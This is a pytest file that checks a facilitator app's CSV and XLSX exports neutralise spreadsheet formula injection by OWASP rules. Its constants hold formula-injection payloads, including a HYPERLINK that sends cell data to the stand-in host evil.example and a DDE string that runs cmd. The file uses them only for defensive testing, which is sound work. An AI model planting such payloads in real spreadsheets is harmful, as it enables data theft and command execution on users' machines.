"""Every CSV and XLSX export neutralises formula injection (OWASP): hostile poll answers and
names from an imported list are written as text, never as something a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from facilitator_app.domain.model import Person
from facilitator_app.domain.polls import Answer, PollDef, PollKind, PollState, PollStatus, Snapshot
from facilitator_app.domain.report import ActualRow, RowStatus
from facilitator_app.domain.rooms import Room
from facilitator_app.services import people_files, poll_files, report_files

HREF = '=HYPERLINK("http://evil.example/?d="&A1,"Anna")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HREF, DDE, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
TEXT_PAYLOADS = PAYLOADS[:5]  # poll answers are stripped of surrounding white space when counted
NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=delimiter))


def cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row]


def assert_neutral(values: list[str], payloads: tuple[str, ...] = PAYLOADS) -> None:
    for payload in payloads:
        assert payload not in values, f"{payload!r} written as it came"
        assert "'" + payload in values
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in values if v)


def assert_xlsx_strings(path: Path, payloads: tuple[str, ...] = PAYLOADS) -> None:
    book = load_workbook(path)
    seen = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                seen[cell.value] = cell.data_type
    for payload in payloads:
        assert seen.get(payload.replace("\r", "\n")) == "s", payload
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)


# ---------------------------------------------------------------- the module itself


def test_neutralise_follows_owasp() -> None:
    assert report_files.neutralise(HREF) == "'" + HREF
    assert report_files.neutralise(DDE) == "'" + DDE
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert report_files.neutralise(start + "x") == "'" + start + "x"
    assert report_files.neutralise("Anna") == "Anna"
    assert report_files.neutralise(-2.5) == -2.5  # numbers stay numbers
    assert report_files.neutralise(3) == 3
    assert report_files.neutralise(None) == ""


def test_csv_in_english_and_in_swedish() -> None:
    assert report_files.csv_bytes([["a", 1.5, 2, DDE]]) == b"\xef\xbb\xbfa,1.5,2,'=cmd|' /C calc'!A0\r\n"
    assert report_files.csv_bytes([["a", 1.5, -2.25]], lang="sv") == b"\xef\xbb\xbfa;1,5;-2,25\r\n"


# ---------------------------------------------------------------- each export


def people() -> dict[str, Person]:
    return {
        f"p{i}": Person(f"p{i}", payload, email=f"p{i}@example.org" if i else payload)
        for i, payload in enumerate(PAYLOADS)
    }


def test_room_plan_csv(tmp_path: Path) -> None:
    plan = (Room(HREF, tuple(people())),)
    people_files.write_plan_csv(tmp_path / "plan.csv", [(DDE, plan)], people())
    assert_neutral(cells(read_csv(tmp_path / "plan.csv")))


def test_room_plan_csv_in_swedish(tmp_path: Path) -> None:
    plan = (Room(HREF, tuple(people())),)
    people_files.write_plan_csv(tmp_path / "plan.csv", [(DDE, plan)], people(), lang="sv")
    assert_neutral(cells(read_csv(tmp_path / "plan.csv", ";")))


def test_zoom_pre_assignment_csv(tmp_path: Path) -> None:
    plan = (Room(HREF, tuple(people())),)
    missing = people_files.write_zoom_csv(tmp_path / "zoom.csv", plan, people())
    assert missing == []
    rows = read_csv(tmp_path / "zoom.csv")
    assert rows[0] == ["Pre-assign Room Name", "Email Address"]
    assert_neutral(cells(rows), (HREF,))
    assert "'" + HREF in [r[1] for r in rows]  # the hostile "e-mail" too


def text_poll(evaluation: bool = False) -> PollState:
    poll = PollDef("p1", PollKind.TEXT, "What should we change?", evaluation=evaluation)
    answers = tuple(Answer(f"r{i}", payload, NOW) for i, payload in enumerate(TEXT_PAYLOADS))
    return PollState(poll, PollStatus.CLOSED, NOW, NOW, True, Snapshot("report:x", NOW, answers=answers), 1)


def choice_poll() -> PollState:
    poll = PollDef("p2", PollKind.SINGLE, HREF, options=(DDE, "OK"), evaluation=True)
    answers = (Answer("a", DDE, NOW), Answer("b", "OK", NOW))
    return PollState(poll, PollStatus.CLOSED, NOW, NOW, True, Snapshot("report:x", NOW, answers=answers), 1)


def test_poll_results_csv(tmp_path: Path) -> None:
    poll_files.write_results_csv(tmp_path / "polls.csv", [text_poll(), choice_poll()])
    rows = read_csv(tmp_path / "polls.csv")
    assert_neutral(cells(rows), TEXT_PAYLOADS)
    assert rows[-1][4] == "1"  # counts stay numbers


def test_poll_results_xlsx(tmp_path: Path) -> None:
    poll_files.write_results_xlsx(tmp_path / "polls.xlsx", [text_poll(), choice_poll()])
    assert_xlsx_strings(tmp_path / "polls.xlsx", TEXT_PAYLOADS)
    sheet = load_workbook(tmp_path / "polls.xlsx").active
    assert sheet.title == "Results"
    assert sheet.cell(row=sheet.max_row, column=5).data_type == "n"


def test_evaluation_csv_and_xlsx(tmp_path: Path) -> None:
    polls = [text_poll(evaluation=True), choice_poll()]
    poll_files.write_evaluation_csv(tmp_path / "evaluation.csv", polls, present=40)
    assert_neutral(cells(read_csv(tmp_path / "evaluation.csv")), TEXT_PAYLOADS)
    poll_files.write_evaluation_xlsx(tmp_path / "evaluation.xlsx", polls, present=40)
    assert_xlsx_strings(tmp_path / "evaluation.xlsx", TEXT_PAYLOADS)


def test_planned_vs_actual_csv(tmp_path: Path) -> None:
    start = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    row = ActualRow(HREF, "s1", DDE, "talk", "@lead", start, 600, start, start, 750.0, 60, 0.0, RowStatus.DONE)
    report_files.write_actuals_csv(tmp_path / "actuals.csv", [row], ZoneInfo("Europe/Stockholm"), lang="sv")
    rows = read_csv(tmp_path / "actuals.csv", ";")
    assert_neutral(cells(rows), (HREF, DDE, "@lead"))
    assert "12,5" in rows[1]  # 750 s as minutes, a number with a decimal comma


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_text_survives_a_round_trip_through_xlsx(tmp_path: Path, payload: str) -> None:
    report_files.write_xlsx(tmp_path / "x.xlsx", {"S": [["h"], [payload]]})
    cell = load_workbook(tmp_path / "x.xlsx").active["A2"]
    assert cell.data_type == "s"
    assert cell.value == payload.replace("\r", "\n")  # XML keeps a line break as \n
